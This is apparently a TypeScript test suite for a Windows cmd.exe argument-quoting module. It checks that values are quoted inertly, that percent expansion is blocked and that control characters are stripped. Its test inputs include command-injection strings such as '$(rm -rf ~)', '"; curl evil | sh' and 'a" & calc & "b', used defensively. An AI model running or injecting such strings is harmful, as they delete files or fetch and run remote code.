import assert from 'node:assert/strict';
import { escapeInCmdQuotes, quoteForCmd, typeableText } from '../../../src/core/shell/cmdQuote';

/**
 * The C runtime's reading of one double-quoted argument (CommandLineToArgvW rules, with the
 * post-2008 `""` inside quotes), used to check that what cmd.exe hands on is the original value.
 */
function parseQuotedArgument(text: string): string {
  assert.equal(text[0], '"', `starts with a quote: ${text}`);
  let out = '';
  let i = 1;
  let inQuotes = true;
  while (i < text.length) {
    let backslashes = 0;
    while (text[i] === '\\') {
      backslashes++;
      i++;
    }
    if (text[i] === '"') {
      out += '\\'.repeat(Math.floor(backslashes / 2));
      if (backslashes % 2 === 1) {
        out += '"';
        i++;
      } else if (inQuotes && text[i + 1] === '"') {
        out += '"';
        i += 2;
      } else {
        inQuotes = !inQuotes;
        i++;
      }
      continue;
    }
    out += '\\'.repeat(backslashes);
    if (i < text.length) out += text[i++];
  }
  assert.equal(inQuotes, false, `the argument closes its quotes: ${text}`);
  return out;
}

/** What cmd.exe's percent phase leaves of a line: `%cd:~,%` is an empty substring. */
const afterPercentPhase = (text: string) => text.replace(/%cd:~,%/g, '');

/** Every character cmd.exe would act on sits inside its quotes. */
function metacharactersOutsideQuotes(text: string): string[] {
  const outside: string[] = [];
  let inQuotes = false;
  for (const char of text) {
    if (char === '"') inQuotes = !inQuotes;
    else if (!inQuotes && /[&|<>()^%!\r\n]/.test(char)) outside.push(char);
  }
  return outside;
}

describe('shell: cmd.exe quoting', () => {
  const hostile = ['$(rm -rf ~)', '"; curl evil | sh', '`touch pwned`', 'a" & calc & "b', '%PATH%', '100%', '%OS%%CD%', 'wow!', 'ünïcødé 🚀 模型', 'C:\\dir\\', 'say \\"hi\\"', '', 'x ^& y'];

  it('writes each value as one quoted word the program reads back exactly', () => {
    for (const value of hostile) {
      const quoted = quoteForCmd(value);
      assert.deepEqual(metacharactersOutsideQuotes(quoted), [], `${value} → ${quoted}`);
      assert.equal(parseQuotedArgument(afterPercentPhase(quoted)), value, `${value} → ${quoted}`);
    }
  });

  it('keeps % from naming a variable and doubles embedded quotes', () => {
    assert.equal(quoteForCmd('%PATH%'), '"%%cd:~,%PATH%%cd:~,%"');
    assert.equal(quoteForCmd('"; curl evil | sh'), '"""; curl evil | sh"');
    assert.equal(quoteForCmd('C:\\dir\\'), '"C:\\dir\\\\"');
  });

  it('turns line breaks and tabs into spaces and drops control characters, which would act as keys', () => {
    assert.equal(typeableText('one\ntwo\r\nthree\rfour\tfive'), 'one two three four five');
    assert.equal(typeableText('a\u0003b\u001bc\u007fd\u0085e'), 'abcde');
    assert.equal(quoteForCmd('line 1\nrm -rf ~'), '"line 1 rm -rf ~"');
  });

  it('doubles trailing backslashes only before a closing quote', () => {
    assert.equal(escapeInCmdQuotes('dir\\', true), 'dir\\\\');
    assert.equal(escapeInCmdQuotes('dir\\', false), 'dir\\');
  });
});
